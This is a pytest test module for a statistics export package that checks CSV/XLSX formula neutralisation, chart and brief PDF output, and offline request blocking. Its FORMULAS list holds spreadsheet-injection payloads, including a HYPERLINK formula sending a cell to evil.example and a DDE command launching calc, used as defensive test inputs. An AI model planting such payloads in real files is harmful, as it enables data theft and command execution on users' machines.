"""Exports stand on their own and leave nothing behind: files are valid and complete, formula
cells are neutralised, briefs name their area and sources, and no request leaves the machine.

One export browser (kaleido) and one PDF printer (Playwright + Debian Chromium) serve the whole
module. The export browser is routed through a recording proxy on localhost, so every http(s)
request it makes is seen here (and refused) instead of reaching the internet.
"""

from __future__ import annotations

import csv
import io
import re
import socketserver
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image
from pypdf import PdfReader

from data_layers.exports import render, table_csv, table_xlsx
from data_layers.exports.brief import make_brief
from data_layers.exports.cli import export_chart, table_context
from data_layers.exports.printing import LOCAL_SCHEMES, PdfPrinter
from data_layers.figures import CHARTS
from data_layers.i18n import t
from data_layers.views import View

ROOT = Path(__file__).resolve().parents[1]
SVG_NS = "{http://www.w3.org/2000/svg}"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "@SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0"]
#: hosts that an export would contact if an offline guard failed (plotly's CDN, MathJax, tiles)
EXPORT_HOSTS = ("plot.ly", "plotly", "mathjax", "cdnjs", "jsdelivr", "unpkg", "topojson", "tile", "mapbox")


# --- fixtures -------------------------------------------------------------------------------------

class _Recorder(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        self.lines: list[str] = []
        super().__init__(("127.0.0.1", 0), _RecordingHandler)


class _RecordingHandler(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        line = self.rfile.readline(4096).decode("latin-1").strip()
        self.server.lines.append(line)  # type: ignore[attr-defined]
        self.wfile.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@pytest.fixture(scope="module")
def proxy_log() -> Iterator[list[str]]:
    """Every request line the export browser sent through its proxy during this module."""
    server = _Recorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    previous = render.server_options()["proxy_server"]
    render.configure(proxy_server=f"http://127.0.0.1:{server.server_address[1]}")
    yield server.lines
    render.stop_server()
    render.configure(proxy_server=previous)
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def printer() -> Iterator[PdfPrinter]:
    with PdfPrinter() as p:
        yield p


@pytest.fixture(scope="module")
def view() -> View:
    return View(indicator="6.1.1", group="disability", level=1, area="PH-05", as_of=2024, window=5)


def _svg_text(svg: bytes) -> str:
    root = ET.fromstring(svg)  # noqa: S314 - our own export, not untrusted input
    return " ".join(" ".join(" ".join(el.itertext()).split()) for el in root.iter(f"{SVG_NS}text"))


def _pdf_text(pdf: bytes) -> tuple[int, str]:
    reader = PdfReader(io.BytesIO(pdf))
    return len(reader.pages), " ".join(p.extract_text() or "" for p in reader.pages)


# --- tables ------------------------------------------------------------------------------------------

def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "label": [*FORMULAS, "plain text"],
        "value": [-3.5, 0.0, np.nan, 12.25, -0.0],
        "suppressed": [False, False, True, False, False],
        "count": pd.array([-2, 0, None, 7, 1], dtype="Int64"),
    })


def test_csv_neutralises_formula_text_but_keeps_numbers_suppressed_missing_and_zero() -> None:
    rows = list(csv.reader(io.StringIO(table_csv(_hostile_frame()).decode("utf-8-sig"))))
    assert rows[0] == ["label", "value", "suppressed", "count"]
    labels = [r[0] for r in rows[1:]]
    assert labels[:4] == ["'" + f for f in FORMULAS], labels
    assert labels[4] == "plain text"
    assert not any(r[0][:1] in "=+-@" for r in rows[1:])
    values = [r[1] for r in rows[1:]]
    assert values[0] == "-3.5"  # a negative number stays a number
    assert values[1] == "0.0"  # zero is a value
    assert values[2] == "suppressed"  # suppressed is a word, not a blank and not 0
    assert [r[3] for r in rows[1:]] == ["-2", "0", "", "7", "1"]  # missing stays empty


def test_csv_leaves_missing_values_empty_when_nothing_is_suppressed() -> None:
    df = pd.DataFrame({"official_value": [1.0, np.nan], "official_suppressed": [False, False]})
    rows = list(csv.reader(io.StringIO(table_csv(df).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["1.0", ""]


def test_xlsx_has_data_and_sources_sheets_and_never_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sources = pd.DataFrame({"dataset_id": ["d1", "d2"], "title": ["=cmd()", "Survey"],
                            "producer": ["@evil", "NSO"], "kind": ["citizen data", "official statistics"]})
    data = table_xlsx(_hostile_frame(), sources=sources, filters={"Group": "+women", "As-of year": "2024"},
                      rule_text="A cell is covered when ...", title="-Title")
    path = tmp_path / "t.xlsx"
    path.write_bytes(data)
    wb = load_workbook(path)
    assert wb.sheetnames == [t("export.sheet_data", "en"), t("export.sheet_sources", "en")]
    ws = wb[wb.sheetnames[0]]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was stored as a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for f in FORMULAS:
        assert "'" + f in texts
    assert "'-Title" in texts
    header_row = next(r for r in ws.iter_rows(values_only=True) if r and r[0] == "label")
    value_col = header_row.index("value")
    rows = [r for r in ws.iter_rows(values_only=True) if r and r[0] in ["'" + f for f in FORMULAS]]
    assert rows[0][value_col] == -3.5 and isinstance(rows[0][value_col], float)  # a number, not text
    assert rows[1][value_col] == 0
    assert rows[2][value_col] == "suppressed"
    src = wb[wb.sheetnames[1]]
    src_texts = [c.value for row in src.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'=cmd()" in src_texts and "'@evil" in src_texts and "'+women" in src_texts
    assert "A cell is covered when ..." in src_texts
    assert not [c.coordinate for row in src.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as z:  # belt and braces: no <f> element anywhere in the package
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_chart_data_downloads_carry_sources_filters_and_rule(sample_store, view) -> None:
    from openpyxl import load_workbook

    data = export_chart(sample_store, "group-comparison", view, "xlsx", "en")
    wb = load_workbook(io.BytesIO(data))
    assert len(wb.sheetnames) == 2
    src_text = " ".join(str(c.value) for row in wb[wb.sheetnames[1]].iter_rows() for c in row if c.value)
    assert "SDG indicators of the Philippines" in src_text
    assert t("export.citizen_data", "en") in src_text
    assert "Bicol (Region V)" in src_text  # the filters in words
    assert "blind spot" in src_text  # the coverage rule
    ctx = table_context(sample_store, CHARTS["group-comparison"].build(sample_store, view), view, "en")
    assert set(ctx["sources"]["kind"]) <= {t("export.citizen_data", "en"), t("export.official_data", "en")}
    rows = list(csv.reader(io.StringIO(export_chart(sample_store, "group-comparison", view, "csv", "en")
                                       .decode("utf-8-sig"))))
    assert rows[0][:3] == ["indicator", "area_code", "area_name"]
    assert {r[1] for r in rows[1:]} == {"PH-05"}


# --- figures ------------------------------------------------------------------------------------------

def test_png_is_at_least_1600_pixels_wide_and_readable_in_grey(sample_store, view, proxy_log) -> None:
    result = CHARTS["overview"].build(sample_store, view)
    png = render.export_figure(result, view, "png")
    img = Image.open(io.BytesIO(png))
    assert img.format == "PNG"
    assert img.size[0] >= 1600, img.size
    grey = np.asarray(img.convert("L"), dtype=float)
    assert grey.std() > 30  # the classes differ in lightness, not only in hue


def test_svg_is_a_vector_map_carrying_title_filters_source_and_credit_as_text(sample_store, view, proxy_log) -> None:
    result = CHARTS["gap-map"].build(sample_store, view)
    svg = render.export_figure(result, view, "svg")
    root = ET.fromstring(svg)  # noqa: S314 - parses (our own export)
    assert root.tag == f"{SVG_NS}svg"
    assert not list(root.iter(f"{SVG_NS}image")), "the map was rasterised"
    assert len(list(root.iter(f"{SVG_NS}path"))) > 17  # area outlines as vector paths
    text = _svg_text(svg)
    assert result.title in text
    assert "as of 2024, 5-year window" in text
    assert "Sources:" in text and "citizen data" in text
    assert t("source.credit", "en") in text
    assert t("legend.status", "en") in text or t("status.aggregate_only.label", "en") in text  # the legend


def test_pdf_is_one_page_with_searchable_title_source_and_as_of(sample_store, view, proxy_log) -> None:
    result = CHARTS["overview"].build(sample_store, view)
    assert "official" in result.title  # a word Chromium would otherwise write as the "ﬃ" ligature
    pages, text = _pdf_text(render.export_figure(result, view, "pdf"))
    assert pages == 1
    flat = " ".join(text.split())
    assert result.title in flat
    assert "as of 2024, 5-year window" in flat
    assert "Sources: SDG indicators of the Philippines" in flat
    assert "GapLens" in flat


def test_decorate_copies_the_figure(sample_store, view) -> None:
    result = CHARTS["time-series"].build(sample_store, view)
    before = result.fig.to_plotly_json()
    fig = render.decorate(result, view, "en")
    assert result.fig.to_plotly_json() == before  # the page's figure is untouched
    texts = " ".join(a.text for a in fig.layout.annotations)
    assert "Sources:" in texts and t("source.credit", "en") in texts
    assert fig.layout.width >= render.DEFAULT_WIDTH


def test_exports_are_translated(sample_store, proxy_log) -> None:
    fr = View(indicator="6.1.1", group="women", level=1, area="PH-05", lang="fr")
    result = CHARTS["group-comparison"].build(sample_store, fr)
    text = _svg_text(render.export_figure(result, fr, "svg", "fr"))
    assert t("source.credit", "fr") in text
    assert t("source.credit", "fr") != t("source.credit", "en")


def test_export_browser_stays_offline(sample_store, view, proxy_log) -> None:
    """Local basemap, no MathJax, and nothing the exports asked for went out (the recording
    proxy saw only Chromium's own background calls, which the real proxy refuses)."""
    import kaleido
    import plotly.graph_objects as go
    import plotly.io as pio

    opts = render.server_options()
    assert opts["mathjax"] is False
    render.ensure_server()
    assert pio.defaults.topojson == render.topojson_url()
    assert pio.defaults.topojson.startswith("file://")
    assert (render.TOPOJSON_DIR / "world_110m.json").is_file()
    assert render.OFFLINE_PROXY.startswith("http://127.0.0.1:")
    render.export_figure(CHARTS["gap-map"].build(sample_store, view), view, "png")
    from_exports = [x for x in proxy_log if any(h in x.lower() for h in EXPORT_HOSTS)]
    assert not from_exports, from_exports
    # positive control: a figure that does ask for a remote basemap is seen by the recorder
    fig = go.Figure(go.Scattergeo(lon=[121.0], lat=[13.0]))
    with render._lock, pytest.raises(Exception, match="topojson"):
        kaleido.calc_fig_sync(fig.to_plotly_json(), opts={"format": "svg", "width": 400, "height": 300},
                              topojson="http://basemap.invalid/topojson/")
    assert any("basemap.invalid" in x for x in proxy_log)


# --- the evidence brief ---------------------------------------------------------------------------------

def test_brief_for_bicol_names_the_area_and_its_sources_on_one_or_two_pages(sample_store, printer, proxy_log) -> None:
    pdf = make_brief(sample_store, area="PH-05", printer=printer)
    assert pdf[:5] == b"%PDF-"
    reader = PdfReader(io.BytesIO(pdf))
    assert 1 <= len(reader.pages) <= 2
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 595.3) < 2 and abs(float(box.height) - 841.9) < 2  # A4 in points
    pages = [" ".join((p.extract_text() or "").split()) for p in reader.pages]
    text = " ".join(pages)
    assert "Evidence brief: Bicol (Region V)" in text
    assert "Sources" in text and "SDG indicators of the Philippines" in text
    assert "Coverage matrix" in text and "Group comparison" in text and "Method" in text
    assert "citizen data" in text
    assert "official" in text  # no ligature glyphs in the text layer
    for page in pages:  # each page says what, for whom, from which data, as of when
        assert "GapLens evidence brief" in page and "Bicol (Region V)" in page
        assert "As of 2024, 5-year window" in page
        assert "population groups" in page and "Data:" in page
    assert printer.outside_requests == []
    assert all(u.startswith(LOCAL_SCHEMES) for u in printer.requests), printer.requests


def test_brief_on_letter_paper_in_french(sample_store, printer, proxy_log) -> None:
    pdf = make_brief(sample_store, area="PH-ALB", paper="letter", lang="fr", printer=printer)
    reader = PdfReader(io.BytesIO(pdf))
    assert 1 <= len(reader.pages) <= 2
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 612) < 2 and abs(float(box.height) - 792) < 2  # US Letter in points
    text = " ".join(" ".join((p.extract_text() or "").split()) for p in reader.pages)
    assert t("brief.title_area", "fr", area="Albay") in text
    assert t("brief.sources.heading", "fr") in text


def test_brief_for_an_indicator(sample_store, printer, proxy_log) -> None:
    pdf = make_brief(sample_store, indicator="6.1.1", level=2, printer=printer)
    pages, text = _pdf_text(pdf)
    assert 1 <= pages <= 2
    flat = " ".join(text.split())
    assert "6.1.1 Safe drinking water" in flat
    from data_layers.exports.brief import MAX_MATRIX_ROWS

    notes = {t("brief.matrix.truncated", "en", shown=n, total=80) for n in MAX_MATRIX_ROWS}
    assert any(n in flat for n in notes), "80 provinces cannot fit: the matrix must say it shows a selection"


def test_brief_printer_blocks_and_records_outside_requests(printer) -> None:
    before = len(printer.outside_requests)
    pdf = printer.print_html("<html><body><p>x</p><img src='https://tracker.invalid/p.png'></body></html>")
    assert pdf[:5] == b"%PDF-"
    assert printer.outside_requests[before:] == ["https://tracker.invalid/p.png"]
    del printer.outside_requests[before:]


def test_denser_layouts_show_fewer_cards_and_say_how_many_are_left_out(sample_store) -> None:
    from data_layers.exports.brief import MAX_CARDS, collect, document

    d = collect(sample_store, area="PH-DAS")
    d.citizen_ids = list(sample_store.datasets(source_kind="citizen")["dataset_id"])  # all six
    d.citizen_below = []
    roomy, tight = document(d, "<svg></svg>", 0), document(d, "<svg></svg>", 2)
    assert roomy.count('class="q"') == min(MAX_CARDS[0], len(d.citizen_ids))
    assert tight.count('class="q"') == MAX_CARDS[2] < len(d.citizen_ids)
    assert t("brief.more", "en", n=len(d.citizen_ids) - MAX_CARDS[2]) in tight
    assert 'class="d2"' in tight
    assert not re.search(r"""(src|href)\s*=\s*["']?https?:""", roomy + tight)  # self-contained documents


def test_unknown_area_is_a_key_error(sample_store, printer) -> None:
    with pytest.raises(KeyError):
        make_brief(sample_store, area="PH-NOPE", printer=printer)


# --- command line ---------------------------------------------------------------------------------------

def _cli(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "data_layers", *args], capture_output=True, text=True,
                          cwd=ROOT, env=env, timeout=600, check=False)


@pytest.mark.slow
def test_cli_lists_charts_and_refuses_unknown_ones(tmp_path: Path, sample_copy: Path) -> None:
    listed = _cli("export", "chart", "--list", home=tmp_path)
    assert listed.returncode == 0, listed.stderr
    names = [line.split()[0] for line in listed.stdout.splitlines() if line.strip()]
    assert names == list(CHARTS)
    assert all(line[:1].isalpha() for line in listed.stdout.splitlines())
    bad = _cli("export", "chart", "no-such-chart", "--data-dir", str(sample_copy), "--format", "png",
               "--out", str(tmp_path / "x.png"), home=tmp_path)
    assert bad.returncode == 2
    assert "unknown chart" in bad.stderr and "Traceback" not in bad.stderr
    bad_area = _cli("export", "brief", "--area", "PH-NOPE", "--data-dir", str(sample_copy), "--out",
                    str(tmp_path / "pack"), home=tmp_path)
    assert bad_area.returncode == 2 and "PH-NOPE" in bad_area.stderr
    bad_filter = _cli("export", "chart", "gap-map", "--group", "aliens", "--data-dir", str(sample_copy),
                      "--format", "csv", "--out", str(tmp_path / "x.csv"), home=tmp_path)
    assert bad_filter.returncode == 2 and "aliens" in bad_filter.stderr
    xlsx = _cli("export", "chart", "overview", "--data-dir", str(sample_copy), "--out", str(tmp_path / "o.xlsx"),
                home=tmp_path)
    assert xlsx.returncode == 0, xlsx.stderr
    assert zipfile.is_zipfile(tmp_path / "o.xlsx")


@pytest.mark.slow
def test_cli_writes_a_meeting_pack_for_five_provinces(tmp_path: Path, sample_copy: Path) -> None:
    provinces = ["PH-ALB", "PH-CAN", "PH-CAS", "PH-CAT", "PH-SOR"]
    args = ["export", "brief", "--data-dir", str(sample_copy), "--out", str(tmp_path / "pack")]
    for code in provinces:
        args += ["--area", code]
    done = _cli(*args, home=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    written = sorted(p.name for p in (tmp_path / "pack").glob("*.pdf"))
    assert written == [f"{c}.pdf" for c in provinces]
    names = dict(zip(provinces, ["Albay", "Camarines Norte", "Camarines Sur", "Catanduanes", "Sorsogon"], strict=True))
    for code in provinces:
        reader = PdfReader(tmp_path / "pack" / f"{code}.pdf")
        assert 1 <= len(reader.pages) <= 2
        assert names[code] in (reader.pages[0].extract_text() or "")
    assert "5 brief(s) written" in done.stderr
    assert not list((tmp_path / "pack").glob("*.tmp"))


@pytest.mark.slow
def test_cli_writes_an_indicator_brief_and_refuses_unknown_indicators(tmp_path: Path, sample_copy: Path) -> None:
    base = ["export", "brief", "--data-dir", str(sample_copy), "--out", str(tmp_path / "pack")]
    done = _cli(*base, "--indicator", "6.1.1", "--level", "2", home=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert sorted(p.name for p in (tmp_path / "pack").glob("*.pdf")) == ["indicator-6.1.1.pdf"]
    reader = PdfReader(tmp_path / "pack" / "indicator-6.1.1.pdf")
    assert 1 <= len(reader.pages) <= 2
    first = " ".join((reader.pages[0].extract_text() or "").split())
    assert "6.1.1 Safe drinking water" in first
    unknown = _cli(*base, "--indicator", "6.1.9", home=tmp_path)
    assert unknown.returncode == 2 and "6.1.9" in unknown.stderr and "6.1.1" in unknown.stderr  # a suggestion
    assert "Traceback" not in unknown.stderr
    both = _cli(*base, "--indicator", "6.1.1", "--area", "PH-ALB", home=tmp_path)
    assert both.returncode == 2 and "not both" in both.stderr


def test_map_export_shows_every_legend_entry_whole(sample_store, view, proxy_log) -> None:
    """A long citizen dataset title was cut at the figure's edge ("…water-point monitorin",
    issue 15): the export wraps every legend entry and keeps all of its words."""
    result = CHARTS["gap-map"].build(sample_store, view)
    long_name = ("Citizen data: Community water-point monitoring by barangay water committees and "
                 "volunteers in every province 2023-2024")
    points = [tr for tr in result.fig.data if tr.type == "scattergeo" and tr.mode == "markers" and tr.showlegend]
    assert points, "the sample map draws citizen points"
    points[0].name = long_name
    fig = render.decorate(result, view, "en")
    names = [tr.name for tr in fig.data if tr.showlegend]
    assert any("<br>" in n for n in names)
    for name in names:
        assert all(len(line) <= render.LEGEND_ENTRY_CHARS for line in name.split("<br>")), name
    svg = render.export_figure(result, view, "svg")
    root = ET.fromstring(svg)  # noqa: S314 - our own export
    width = float(root.get("width"))
    legend = [el for el in root.iter(f"{SVG_NS}text") if el.get("class") == "legendtext"]
    shown = " ".join(" ".join(el.itertext()) for el in legend)
    assert " ".join(long_name.split()) in " ".join(shown.split())
    for el in legend:  # each line starts inside the figure and, at a generous 0.6 em a character, ends inside it
        x = sum(float(g.get("transform", "translate(0,0)").split("(")[1].split(",")[0])
                for g in _ancestors(root, el) if g.get("transform", "").startswith("translate"))
        lines = ["".join(sp.itertext()) for sp in el.iter(f"{SVG_NS}tspan")] or ["".join(el.itertext())]
        longest = max(len(line) for line in lines)
        assert x >= 0 and x + longest * 0.6 * 14 < width, (x, "".join(el.itertext()))


def _ancestors(root: ET.Element, el: ET.Element) -> list[ET.Element]:
    parents = {c: p for p in root.iter() for c in p}
    out = []
    while el in parents:
        el = parents[el]
        out.append(el)
    return out
